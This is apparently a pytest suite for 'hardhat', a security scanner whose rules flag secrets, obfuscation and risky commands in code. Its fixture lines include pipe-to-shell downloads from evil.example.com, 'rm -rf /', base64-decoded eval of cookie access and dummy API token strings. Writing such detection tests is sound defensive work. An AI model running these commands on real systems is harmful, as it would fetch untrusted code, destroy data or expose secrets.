import dataclasses

import pytest

from hardhat.rules import PatternRule, RuleCatalog, load_catalog
from hardhat.severity import Severity

TELEGRAM_LINE = 'const token = "5123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw";'


def _rule(name):
    return next(rule for rule in load_catalog().all_rules() if rule.name == name)


def test_catalog_orders_tiers_critical_first():
    catalog = load_catalog()

    severities = [rule.severity for rule in catalog.all_rules()]

    assert severities == sorted(severities, key=lambda severity: severity.rank)
    assert len(catalog.rules_for_severity(Severity.CRITICAL)) == 6
    assert len(catalog.rules_for_severity(Severity.HIGH)) == 4
    assert len(catalog.rules_for_severity(Severity.MEDIUM)) == 3
    assert catalog.rules_for_severity(Severity.WARNING) == ()
    assert len(catalog) == 13


def test_catalog_keeps_definition_order_within_tier():
    names = [rule.name for rule in load_catalog().rules_for_severity(Severity.HIGH)]

    assert names == [
        "Download from Untrusted Source",
        "Requires Elevated Privileges",
        "Destructive File Operation",
        "System Command Execution",
    ]


def test_catalog_is_read_only():
    catalog = load_catalog()
    rule = catalog.all_rules()[0]

    assert isinstance(catalog.all_rules(), tuple)
    assert catalog.version == "1.0.0"
    with pytest.raises(AttributeError):
        catalog.version = "2.0.0"
    with pytest.raises(dataclasses.FrozenInstanceError):
        rule.name = "renamed"


def test_catalog_rejects_rules_without_a_tier():
    rule = PatternRule.compile("x", name="Notice", severity=Severity.WARNING, remediation="n/a")

    with pytest.raises(ValueError):
        RuleCatalog([rule])


def test_rule_describe_returns_metadata():
    meta = _rule("Hardcoded Telegram Bot Token").describe()

    assert meta.severity is Severity.CRITICAL
    assert "TELEGRAM_BOT_TOKEN" in meta.remediation


@pytest.mark.parametrize(
    "name,line",
    [
        ("Hardcoded Telegram Bot Token", TELEGRAM_LINE),
        ("Hardcoded GitHub Token", 'auth = "ghp_' + "A1" * 18 + '"'),
        ("Hardcoded OpenAI API Key", "key = 'sk-" + "a" * 48 + "'"),
        ("Code Obfuscation (eval + decode)", 'eval(atob("ZG9jdW1lbnQuY29va2ll"))'),
        ("Code Obfuscation (eval + decode)", "exec(base64.b64decode(payload))"),
        ("Known Malicious Dependency (openclaw-core)", '"openclaw-core": "^1.0.0",'),
        ("Pipe to Shell Pattern", "curl -fsSL https://evil.example.com/setup.sh | bash"),
        ("Pipe to Shell Pattern", "wget -qO- http://evil.example.com/i.sh | sh"),
        ("Download from Untrusted Source", "wget https://evil.example.com/payload.exe"),
        ("Requires Elevated Privileges", "sudo npm install -g something"),
        ("Destructive File Operation", "rm -rf /"),
        ("System Command Execution", "const cp = require('child_process');"),
        ("System Command Execution", 'subprocess.run(["ls", "-la"])'),
        ("External Network Request", "fetch('https://api.example.com/data')"),
        ("External Network Request", "resp = requests.get(url, timeout=5)"),
        ("External Dependency", "const axios = require('axios');"),
        ("External Dependency", "import axios from 'axios';"),
        ("External Dependency", "import { Client } from \"@slack/web-api\";"),
        ("External Dependency", "const mod = await import('left-pad');"),
        ("External Dependency", "import requests"),
        ("External Dependency", "import os, yaml"),
        ("External Dependency", "from flask import Flask"),
        ("File Deletion Operations", "fs.unlinkSync(target);"),
        ("File Deletion Operations", "shutil.rmtree(build_dir)"),
    ],
)
def test_rule_matches_signature(name, line):
    assert _rule(name).test(line)


@pytest.mark.parametrize(
    "name,line",
    [
        ("Hardcoded Telegram Bot Token", 'token = "512345678:tooShort"'),
        ("Hardcoded OpenAI API Key", "key = 'sk-" + "a" * 47 + "'"),
        ("Pipe to Shell Pattern", "curl https://example.com/file.txt -o file.txt"),
        ("Download from Untrusted Source", "https://github.com/org/repo/releases/download/v1/tool.zip"),
        ("Requires Elevated Privileges", "// pseudo code follows"),
        ("Destructive File Operation", "rm -rf ./build"),
        ("External Dependency", "import os"),
        ("External Dependency", "from pathlib import Path"),
        ("External Dependency", "from . import helpers"),
        ("External Dependency", "import the config from your settings page"),
    ],
)
def test_rule_ignores_lookalikes(name, line):
    assert not _rule(name).test(line)
